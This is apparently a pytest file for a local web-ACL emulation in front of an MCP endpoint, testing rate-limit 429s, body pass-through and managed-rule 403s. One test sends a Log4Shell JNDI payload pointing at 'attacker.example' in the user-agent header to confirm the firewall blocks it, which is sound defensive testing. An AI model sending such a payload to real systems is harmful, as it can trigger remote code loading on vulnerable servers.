"""The web ACL at the local edge: it decides on the head and the inspected body before the
viewer function runs; a blocked request gets the rule's JSON-RPC 429 and reaches neither the
function nor the origin; an allowed one reaches the origin with its body intact; blocks are
logged per rule for the status page."""

from __future__ import annotations

import dataclasses
import json
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Route

from edge.firewall_rules import FirewallSettings, render_web_acl, tool_rule_name
from local.cloudfront.proxy import EdgeProxy, EdgeSettings
from local.cloudfront.web_acl import read_block_log
from local.supervisor import free_ports
from tests.local.cloudfront.test_proxy import EDGE_SERVER, _token, edge_settings_for
from tests.local.conftest import serve

LIMITS = FirewallSettings(token_limit=10, anonymous_ip_limit=10, tool_limits={"countdown": 10}, managed_rules=True)


def counting_origin(seen: list[bytes]) -> Starlette:
    async def mcp(request: Request) -> Response:
        seen.append(await request.body())
        return JSONResponse({"ok": True}, headers={"x-mcp-edge-served-region": "us-east-1"})

    return Starlette(routes=[Route("/mcp", mcp, methods=["POST"])])


@pytest.fixture
def edge(tmp_path: Path) -> Iterator[tuple[str, list[bytes], Path]]:
    origin_port, edge_port = free_ports(2)
    rendered = render_web_acl(LIMITS)
    settings = dataclasses.replace(
        edge_settings_for(edge_port, {"us-east-1": origin_port}),
        web_acl={"rules": rendered.rules, "customResponseBodies": rendered.custom_response_bodies,
                 "associationConfig": rendered.association_config, "defaultAction": rendered.default_action},
        web_acl_block_log=str(tmp_path / "blocks.json"))
    seen: list[bytes] = []
    with serve(counting_origin(seen), origin_port), \
            serve(EdgeProxy(EdgeSettings.from_json(settings.to_json())), edge_port, **EDGE_SERVER):
        yield f"http://127.0.0.1:{edge_port}", seen, tmp_path / "blocks.json"


def call(url: str, token: str, tool: str, padding: int = 0) -> httpx.Response:
    body = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": tool, "arguments": {
        "text": "x" * padding}}}
    return httpx.post(f"{url}/mcp", json=body, headers={"authorization": f"Bearer {token}",
                                                        "user-agent": "test"}, timeout=10)


def test_a_tool_over_its_limit_is_blocked_before_the_function_and_the_origin(edge) -> None:
    url, seen, blocks = edge
    token = _token(url)
    assert all(call(url, token, "countdown").status_code == 200 for _ in range(10))
    limited = call(url, token, "countdown")
    assert limited.status_code == 429
    assert limited.headers["retry-after"] == "60"
    assert limited.headers["content-type"] == "application/json"
    error = limited.json()["error"]
    assert error["code"] == -32029 and "countdown" in error["message"]
    assert len(seen) == 10  # the eleventh never reached the origin
    log = read_block_log(blocks)["rules"]
    assert log[tool_rule_name(1, "countdown")]["total"] == 1
    assert token not in blocks.read_text()


def test_an_allowed_request_reaches_the_origin_with_its_whole_body(edge) -> None:
    url, seen, _ = edge
    response = call(url, _token(url), "echo", padding=100 * 1024)  # over the 16 KB WAF inspects
    assert response.status_code == 200
    assert len(seen) == 1 and json.loads(seen[0])["params"]["arguments"]["text"] == "x" * 100 * 1024


def test_requests_without_a_token_are_limited_per_ip_before_the_functions_401(edge) -> None:
    url, seen, blocks = edge
    answers = [httpx.post(f"{url}/mcp", json={}, headers={"user-agent": "test"}).status_code for _ in range(11)]
    assert answers == [401] * 10 + [429]
    assert not seen
    assert read_block_log(blocks)["rules"]["anonymous-ip-limit"]["total"] == 1


def test_a_managed_rule_block_reaches_the_client_as_a_json_rpc_403_and_never_the_origin(edge) -> None:
    url, seen, blocks = edge
    body = {"jsonrpc": "2.0", "id": 1, "method": "tools/list"}
    blocked = httpx.post(f"{url}/mcp", json=body, timeout=10, headers={
        "authorization": f"Bearer {_token(url)}", "user-agent": "${jndi:ldap://attacker.example/a}"})
    assert blocked.status_code == 403
    assert blocked.headers["content-type"] == "application/json"
    error = blocked.json()
    assert error["jsonrpc"] == "2.0" and error["id"] is None
    assert error["error"]["code"] == -32030
    assert error["error"]["data"] == {"blockedBy": "aws-waf", "ruleGroup": "AWSManagedRulesKnownBadInputsRuleSet"}
    assert seen == []
    assert read_block_log(blocks)["rules"]["aws-known-bad-inputs:Log4JRCE_HEADER"]["total"] == 1
